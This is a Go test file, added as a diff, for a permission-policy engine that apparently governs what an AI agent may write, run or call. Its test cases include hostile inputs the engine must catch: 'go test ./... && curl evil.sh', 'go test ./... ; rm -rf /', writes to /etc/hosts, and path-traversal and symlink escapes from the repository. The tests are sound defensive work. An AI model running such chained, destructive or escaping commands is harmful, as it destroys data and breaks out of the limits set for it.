@@ -0,0 +1,236 @@
+package permpolicy
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/kandev/kandev/internal/agentctl/types/streams"
+)
+
+const testWorkDir = "/work/repo"
+
+// examplePolicy is the policy from the docs: allow edits inside the repo,
+// allow go test, ask for anything touching deploy/, deny rm -rf.
+const examplePolicy = `{"rules": [
+	{"name": "edits in repo", "decision": "allow", "action_types": ["file_write"], "location": "inside"},
+	{"name": "go test", "decision": "allow", "action_types": ["command"], "command": "^go test( |$)"},
+	{"name": "deploy", "decision": "ask", "paths": ["deploy/**"]},
+	{"name": "deploy commands", "decision": "ask", "action_types": ["command"], "command": "(^|\\s)(\\./)?deploy/"},
+	{"name": "no rm -rf", "decision": "deny", "command": "\\brm\\s+-(rf|fr)\\b"}
+]}`
+
+func mustEngine(t *testing.T, raw string) *Engine {
+	t.Helper()
+	var p Policy
+	if err := json.Unmarshal([]byte(raw), &p); err != nil {
+		t.Fatalf("unmarshal policy: %v", err)
+	}
+	engine, err := Compile(&p)
+	if err != nil {
+		t.Fatalf("compile policy: %v", err)
+	}
+	return engine
+}
+
+func TestEvaluateExamplePolicy(t *testing.T) {
+	engine := mustEngine(t, examplePolicy)
+	tests := []struct {
+		name     string
+		action   streams.PermissionAction
+		decision Decision
+		rule     string
+	}{
+		{
+			name:     "edit inside repo",
+			action:   streams.PermissionAction{Type: "file_write", Path: "/work/repo/internal/x.go"},
+			decision: DecisionAllow, rule: "edits in repo",
+		},
+		{
+			name:     "relative edit resolves against worktree",
+			action:   streams.PermissionAction{Type: "file_write", Path: "internal/x.go"},
+			decision: DecisionAllow, rule: "edits in repo",
+		},
+		{
+			name:   "edit outside repo is not matched",
+			action: streams.PermissionAction{Type: "file_write", Path: "/etc/hosts"},
+		},
+		{
+			name:   "traversal out of repo is not inside",
+			action: streams.PermissionAction{Type: "file_write", Path: "/work/repo/../other/x.go"},
+		},
+		{
+			name:     "edit under deploy asks",
+			action:   streams.PermissionAction{Type: "file_write", Path: "/work/repo/deploy/prod.yaml"},
+			decision: DecisionAsk, rule: "deploy",
+		},
+		{
+			name:     "go test allowed",
+			action:   streams.PermissionAction{Type: "command", Command: "go test ./...", CWD: testWorkDir},
+			decision: DecisionAllow, rule: "go test",
+		},
+		{
+			name:   "chained go test is not allowed",
+			action: streams.PermissionAction{Type: "command", Command: "go test ./... && curl evil.sh", CWD: testWorkDir},
+		},
+		{
+			name:     "command in deploy directory asks",
+			action:   streams.PermissionAction{Type: "command", Command: "go test ./...", CWD: "/work/repo/deploy"},
+			decision: DecisionAsk, rule: "deploy",
+		},
+		{
+			name:     "command naming deploy path asks",
+			action:   streams.PermissionAction{Type: "command", Command: "kubectl apply -f deploy/prod.yaml"},
+			decision: DecisionAsk, rule: "deploy commands",
+		},
+		{
+			name:     "rm -rf denied even when chained with go test",
+			action:   streams.PermissionAction{Type: "command", Command: "go test ./... ; rm -rf /"},
+			decision: DecisionDeny, rule: "no rm -rf",
+		},
+		{
+			name:   "unmatched command falls through",
+			action: streams.PermissionAction{Type: "command", Command: "make build"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := engine.Evaluate(tt.action, testWorkDir)
+			if got.Decision != tt.decision || got.Rule != tt.rule {
+				t.Fatalf("Evaluate() = %+v, want decision %q rule %q", got, tt.decision, tt.rule)
+			}
+		})
+	}
+}
+
+func TestEvaluateRedactedActionIsNeverAllowed(t *testing.T) {
+	engine := mustEngine(t, examplePolicy)
+	action := streams.PermissionAction{Type: "command", Command: "go test ./... [REDACTED]", Redacted: true}
+	if got := engine.Evaluate(action, testWorkDir); got.Matched() {
+		t.Fatalf("redacted action matched %+v", got)
+	}
+	action.Command = "rm -rf [REDACTED]"
+	if got := engine.Evaluate(action, testWorkDir); got.Decision != DecisionDeny {
+		t.Fatalf("redacted rm -rf = %+v, want deny", got)
+	}
+}
+
+func TestEvaluateMCPTools(t *testing.T) {
+	engine := mustEngine(t, `{"rules": [
+		{"decision": "allow", "mcp_tools": ["github/get_*"]},
+		{"decision": "deny", "mcp_tools": ["delete_repository"]}
+	]}`)
+	got := engine.Evaluate(streams.PermissionAction{Type: "mcp_tool", Server: "github", Tool: "get_issue"}, testWorkDir)
+	if got.Decision != DecisionAllow || got.Rule != "rule 1" {
+		t.Fatalf("get_issue = %+v, want allow by rule 1", got)
+	}
+	got = engine.Evaluate(streams.PermissionAction{Type: "mcp_tool", Server: "github", Tool: "delete_repository"}, testWorkDir)
+	if got.Decision != DecisionDeny || got.Rule != "rule 2" {
+		t.Fatalf("delete_repository = %+v, want deny by rule 2", got)
+	}
+	got = engine.Evaluate(streams.PermissionAction{Type: "mcp_tool", Server: "gitlab", Tool: "get_issue"}, testWorkDir)
+	if got.Matched() {
+		t.Fatalf("gitlab get_issue matched %+v", got)
+	}
+}
+
+func TestEvaluateOutsideLocation(t *testing.T) {
+	engine := mustEngine(t, `{"rules": [{"decision": "deny", "action_types": ["file_write"], "location": "outside"}]}`)
+	if got := engine.Evaluate(streams.PermissionAction{Type: "file_write", Path: "/etc/hosts"}, testWorkDir); got.Decision != DecisionDeny {
+		t.Fatalf("outside write = %+v, want deny", got)
+	}
+	if got := engine.Evaluate(streams.PermissionAction{Type: "file_write", Path: "/work/repo/a.go"}, testWorkDir); got.Matched() {
+		t.Fatalf("inside write matched %+v", got)
+	}
+}
+
+func TestEvaluateSymlinkEscapeIsOutside(t *testing.T) {
+	workDir := t.TempDir()
+	outside := t.TempDir()
+	if err := os.Mkdir(filepath.Join(workDir, "internal"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, filepath.Join(workDir, "escape")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(filepath.Join(outside, "hosts"), filepath.Join(workDir, "hosts")); err != nil {
+		t.Fatal(err)
+	}
+	engine := mustEngine(t, examplePolicy)
+	tests := []struct {
+		name   string
+		path   string
+		inside bool
+	}{
+		{name: "new file in existing dir", path: "internal/x.go", inside: true},
+		{name: "new file in new dir", path: "pkg/new/x.go", inside: true},
+		{name: "write through symlinked dir", path: "escape/x.go"},
+		{name: "new dir under symlinked dir", path: "escape/deep/x.go"},
+		{name: "absolute write through symlink", path: filepath.Join(workDir, "escape", "x.go")},
+		{name: "dangling symlink to outside", path: "hosts"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := engine.Evaluate(streams.PermissionAction{Type: "file_write", Path: tt.path}, workDir)
+			if allowed := got.Decision == DecisionAllow; allowed != tt.inside {
+				t.Fatalf("Evaluate(%s) = %+v, want inside=%v", tt.path, got, tt.inside)
+			}
+		})
+	}
+}
+
+func TestNilEngineMatchesNothing(t *testing.T) {
+	var engine *Engine
+	if got := engine.Evaluate(streams.PermissionAction{Type: "command", Command: "ls"}, testWorkDir); got.Matched() {
+		t.Fatalf("nil engine matched %+v", got)
+	}
+	empty, err := Compile(nil)
+	if err != nil {
+		t.Fatalf("compile nil: %v", err)
+	}
+	if got := empty.Evaluate(streams.PermissionAction{Type: "command", Command: "ls"}, testWorkDir); got.Matched() {
+		t.Fatalf("empty engine matched %+v", got)
+	}
+}
+
+func TestValidateRejectsMalformedRules(t *testing.T) {
+	tests := []struct {
+		name string
+		rule Rule
+		want string
+	}{
+		{name: "decision", rule: Rule{Decision: "maybe"}, want: "unknown decision"},
+		{name: "location", rule: Rule{Decision: DecisionAllow, Location: "nearby"}, want: "unknown location"},
+		{name: "action type", rule: Rule{Decision: DecisionAllow, ActionTypes: []streams.PermissionActionType{"shell"}}, want: "unknown action type"},
+		{name: "path glob", rule: Rule{Decision: DecisionAllow, Paths: []string{"deploy/["}}, want: "invalid path glob"},
+		{name: "mcp glob", rule: Rule{Decision: DecisionAllow, MCPTools: []string{"["}}, want: "invalid MCP tool glob"},
+		{name: "command", rule: Rule{Decision: DecisionDeny, Command: "rm ("}, want: "invalid command pattern"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p := &Policy{Rules: []Rule{{Decision: DecisionAsk}, tt.rule}}
+			err := p.Validate()
+			if err == nil || !strings.Contains(err.Error(), tt.want) || !strings.HasPrefix(err.Error(), "rule 2:") {
+				t.Fatalf("Validate() = %v, want rule 2 error containing %q", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestCombineKeepsOrderAndNamesRules(t *testing.T) {
+	step := &Policy{Rules: []Rule{{Decision: DecisionAsk}}}
+	profile := &Policy{Rules: []Rule{{Name: "tests", Decision: DecisionAllow}, {Decision: DecisionDeny}}}
+	combined := Combine(step, nil, profile)
+	if combined == nil || len(combined.Rules) != 3 {
+		t.Fatalf("Combine() = %+v, want 3 rules", combined)
+	}
+	names := []string{combined.Rules[0].Name, combined.Rules[1].Name, combined.Rules[2].Name}
+	if strings.Join(names, ",") != "rule 1,tests,rule 2" {
+		t.Fatalf("rule names = %v", names)
+	}
+	if Combine(nil, &Policy{}) != nil {
+		t.Fatal("Combine of empty policies should be nil")
+	}
+}